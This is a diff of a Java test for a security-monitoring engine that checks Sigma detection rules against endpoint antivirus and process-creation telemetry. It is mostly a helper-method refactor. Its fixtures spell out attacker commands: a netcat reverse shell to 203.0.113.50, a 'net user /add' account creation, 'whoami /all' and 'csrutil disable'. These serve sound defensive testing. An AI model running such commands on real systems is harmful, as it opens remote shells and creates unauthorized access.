@@ -1,25 +1,23 @@
 package io.socaas.correlation.sigma.yaml;
 
-import static io.socaas.correlation.sigma.yaml.IngestedEvents.RULES;
+import static io.socaas.correlation.sigma.yaml.IngestedEvents.antivirusRules;
 import static io.socaas.correlation.sigma.yaml.IngestedEvents.assumeCorpus;
 import static io.socaas.correlation.sigma.yaml.IngestedEvents.fired;
 import static io.socaas.correlation.sigma.yaml.IngestedEvents.id;
-import static io.socaas.correlation.sigma.yaml.IngestedEvents.ingested;
-import static io.socaas.correlation.sigma.yaml.IngestedEvents.ingestedJson;
+import static io.socaas.correlation.sigma.yaml.IngestedEvents.ingestedAny;
+import static io.socaas.correlation.sigma.yaml.IngestedEvents.isAntivirus;
 import static io.socaas.correlation.sigma.yaml.IngestedEvents.json;
 import static io.socaas.correlation.sigma.yaml.IngestedEvents.logsources;
 import static org.assertj.core.api.Assertions.assertThat;
 
 import io.socaas.correlation.detection.domain.EventAdmission;
 import io.socaas.correlation.sigma.domain.Logsource;
-import io.socaas.correlation.sigma.domain.SigmaRule;
 import io.socaas.events.ocsf.OcsfNormalizer;
 import java.util.LinkedHashMap;
 import java.util.List;
 import java.util.Map;
 import java.util.Set;
 import java.util.function.BiFunction;
-import java.util.stream.Collectors;
 import org.junit.jupiter.api.Test;
 
 /**
@@ -39,21 +37,6 @@ class EndpointTelemetryLogsourcesTest {
     private static final String HACKTOOL = AV + "av_hacktool.yml";
     private static final String PASSWORD_DUMPER = AV + "av_password_dumper.yml";
     private static final String WEBSHELL = AV + "av_webshell.yml";
-
-    private static Map<String, Object> in(String raw) {
-        return raw.startsWith("{") ? ingestedJson(raw) : ingested(raw);
-    }
-
-    private static boolean isAntivirus(String raw) {
-        return logsources(in(raw)).stream().anyMatch(l -> "antivirus".equals(l.category()));
-    }
-
-    private static Set<String> antivirusRules() {
-        return RULES.values().stream()
-                .filter(r -> "antivirus".equals(r.source().category()))
-                .map(SigmaRule::id)
-                .collect(Collectors.toSet());
-    }
 
     // ---- Defender for Endpoint: DeviceEvents ---------------------------------------------------------
 
@@ -124,10 +107,10 @@ class EndpointTelemetryLogsourcesTest {
             for (BiFunction<String, String, String> detection : defenderDetections(actionType)) {
                 String hacktool = detection.apply("HackTool:Win32/Mimikatz!pz", TOOL);
                 assertThat(isAntivirus(hacktool)).as(hacktool).isTrue();
-                assertThat(fired(in(hacktool))).as(hacktool).contains(id(HACKTOOL), id(PASSWORD_DUMPER));
+                assertThat(fired(ingestedAny(hacktool))).as(hacktool).contains(id(HACKTOOL), id(PASSWORD_DUMPER));
 
                 String webshell = detection.apply("Backdoor:ASP/Chopper.F!dha", SHELL);
-                assertThat(fired(in(webshell)))
+                assertThat(fired(ingestedAny(webshell)))
                         .as(webshell)
                         .contains(id(WEBSHELL))
                         .doesNotContain(id(HACKTOOL));
@@ -135,7 +118,7 @@ class EndpointTelemetryLogsourcesTest {
                 // a potentially unwanted application is an antivirus event that fires no antivirus rule
                 String pua = detection.apply("PUA:Win32/PdfMagic", SETUP);
                 assertThat(isAntivirus(pua)).as(pua).isTrue();
-                assertThat(fired(in(pua))).as(pua).doesNotContainAnyElementsOf(antivirus);
+                assertThat(fired(ingestedAny(pua))).as(pua).doesNotContainAnyElementsOf(antivirus);
             }
         }
     }
@@ -166,7 +149,7 @@ class EndpointTelemetryLogsourcesTest {
                         TOOL,
                         json(Map.of("ResponseCategory", "Malicious", "DisplayName", "Mimikatz download")))));
         for (Map.Entry<String, String> other : others.entrySet()) {
-            Map<String, Object> event = in(other.getValue());
+            Map<String, Object> event = ingestedAny(other.getValue());
             assertThat(logsources(event).stream().map(Logsource::category))
                     .as(other.getKey())
                     .doesNotContain("antivirus");
@@ -189,18 +172,18 @@ class EndpointTelemetryLogsourcesTest {
                 "cat=Anti-Malware|name=HackTool.Win64.Mimikatz.SWG|desc=HackTool.Win64.Mimikatz.SWG|sev=6"
                         + "|dvchost=app-srv-12|filePath=C:\\\\ProgramData\\\\mk64.exe|act=Quarantine|msg=Realtime");
         assertThat(isAntivirus(hacktool)).isTrue();
-        assertThat(fired(in(hacktool))).contains(id(HACKTOOL), id(PASSWORD_DUMPER));
+        assertThat(fired(ingestedAny(hacktool))).contains(id(HACKTOOL), id(PASSWORD_DUMPER));
 
         String adware = hacktool.replace("HackTool.Win64.Mimikatz.SWG", "Adware.Win32.OpenCandy.A");
         assertThat(isAntivirus(adware)).isTrue();
-        assertThat(fired(in(adware))).doesNotContainAnyElementsOf(antivirusRules());
+        assertThat(fired(ingestedAny(adware))).doesNotContainAnyElementsOf(antivirusRules());
 
         String firewall = deepSecurityLeef(
                 "20",
                 "cat=Firewall|name=Mimikatz remote share|sev=5|dvchost=app-srv-12|src=10.9.0.4|dst=10.9.0.12"
                         + "|srcPort=50122|dstPort=445|proto=TCP|act=Deny");
         assertThat(isAntivirus(firewall)).isFalse();
-        assertThat(fired(in(firewall))).doesNotContainAnyElementsOf(antivirusRules());
+        assertThat(fired(ingestedAny(firewall))).doesNotContainAnyElementsOf(antivirusRules());
     }
 
     // ---- SentinelOne Deep Visibility ---------------------------------------------------------------
@@ -277,10 +260,10 @@ class EndpointTelemetryLogsourcesTest {
                     "C:\\Windows\\System32\\cmd.exe",
                     "C:\\Windows\\System32\\whoami.exe",
                     "whoami.exe /all");
-            assertThat(logsources(in(discovery))).contains(WINDOWS_PROCESS_CREATION);
-            assertThat(fired(in(discovery))).as(discovery).contains(whoami);
+            assertThat(logsources(ingestedAny(discovery))).contains(WINDOWS_PROCESS_CREATION);
+            assertThat(fired(ingestedAny(discovery))).as(discovery).contains(whoami);
             // the near miss: whoami without /all
-            assertThat(fired(in(shape.of(
+            assertThat(fired(ingestedAny(shape.of(
                             "windows",
                             "C:\\Windows\\System32\\cmd.exe",
                             "C:\\Windows\\System32\\whoami.exe",
@@ -292,18 +275,20 @@ class EndpointTelemetryLogsourcesTest {
                     "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                     "C:\\Windows\\System32\\net.exe",
                     "net user svc_sql2 Spring2026! /add");
-            assertThat(fired(in(account))).as(account).contains(netUserAdd);
+            assertThat(fired(ingestedAny(account))).as(account).contains(netUserAdd);
 
             String shell = shape.of("linux", "/usr/sbin/apache2", "/usr/bin/nc", "nc 203.0.113.50 4444 -e /bin/bash");
-            assertThat(logsources(in(shell))).contains(LINUX_PROCESS_CREATION).doesNotContain(WINDOWS_PROCESS_CREATION);
-            assertThat(fired(in(shell))).as(shell).contains(reverseShell);
+            assertThat(logsources(ingestedAny(shell)))
+                    .contains(LINUX_PROCESS_CREATION)
+                    .doesNotContain(WINDOWS_PROCESS_CREATION);
+            assertThat(fired(ingestedAny(shell))).as(shell).contains(reverseShell);
             // a Windows rule does not read a Linux endpoint's process, even where its paths would match
-            assertThat(fired(in(shape.of("linux", "/usr/bin/bash", "/tmp/whoami.exe", "whoami.exe /all"))))
+            assertThat(fired(ingestedAny(shape.of("linux", "/usr/bin/bash", "/tmp/whoami.exe", "whoami.exe /all"))))
                     .doesNotContain(whoami);
 
             String sip = shape.of("osx", "/bin/zsh", "/usr/bin/csrutil", "csrutil disable");
-            assertThat(fired(in(sip))).as(sip).contains(csrutil);
-            assertThat(fired(in(shape.of("osx", "/bin/zsh", "/usr/bin/csrutil", "csrutil status"))))
+            assertThat(fired(ingestedAny(sip))).as(sip).contains(csrutil);
+            assertThat(fired(ingestedAny(shape.of("osx", "/bin/zsh", "/usr/bin/csrutil", "csrutil status"))))
                     .doesNotContain(csrutil);
         }
         // other Deep Visibility events are no process creations
@@ -316,7 +301,7 @@ class EndpointTelemetryLogsourcesTest {
                 "src.process.name", "whoami.exe",
                 "src.process.image.path", "C:\\Windows\\System32\\whoami.exe",
                 "src.process.cmdline", "whoami.exe /all"));
-        assertThat(logsources(in(dns))).doesNotContain(WINDOWS_PROCESS_CREATION);
-        assertThat(fired(in(dns))).doesNotContain(whoami);
+        assertThat(logsources(ingestedAny(dns))).doesNotContain(WINDOWS_PROCESS_CREATION);
+        assertThat(fired(ingestedAny(dns))).doesNotContain(whoami);
     }
 }
